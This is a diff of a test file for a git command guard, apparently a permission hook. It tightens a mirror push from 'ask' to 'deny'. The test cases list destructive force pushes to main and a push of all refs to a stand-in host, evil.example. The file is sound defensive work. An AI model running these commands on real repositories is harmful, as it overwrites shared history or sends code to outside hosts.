@@ -21,7 +21,7 @@ setup() {
 	decides "git send-pack --force $T/remote.git +main:main" deny
 	decides "git send-pack git@github.com:o/r.git :main" deny
 	decides "git send-pack --force $T/remote.git evil:heads/main" deny
-	decides "git send-pack --mirror git@github.com:o/r.git" ask
+	decides "git send-pack --mirror git@github.com:o/r.git" deny # a mirror push forces every ref, main too
 	decides "git send-pack $T/remote.git refs/tags/v9 HEAD:refs/heads/main" ask
 	decides "git send-pack --all git@evil.example:x.git" ask
 	decides "git http-push https://example.com/r.git main" ask
